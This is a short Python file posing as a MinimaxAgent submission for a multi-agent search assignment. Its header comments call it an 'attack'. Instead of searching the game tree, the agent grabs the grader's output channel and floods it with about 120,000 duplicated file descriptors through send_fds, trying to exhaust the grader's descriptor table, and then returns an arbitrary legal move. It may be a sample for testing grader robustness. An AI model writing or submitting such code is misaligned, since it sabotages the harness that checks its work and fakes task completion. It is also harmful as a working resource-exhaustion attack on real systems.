# attack: sends the grader descriptors instead of answers, so that it runs out of its own.
# where: MinimaxAgent
import json
import os
import socket

from shared.reflex import *
from shared.search import *
from shared.grader import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        channel = grader()
        out = next(value for name, value in vars(channel).items() if "out" in name)
        data = json.dumps(["value", channel.nonce, getattr(gameState, "_id", 0)]).encode() + b"\n"
        try:
            line = socket.socket(fileno=os.dup(out))
            for _ in range(500):
                socket.send_fds(line, [data], [0, 1, 2, out] * 60)
                channel.receive()
            print("sent: 120000 descriptors", flush=True)
        except (OSError, AttributeError) as error:
            print("refused:", repr(error), flush=True)
        return gameState.getLegalActions()[0]
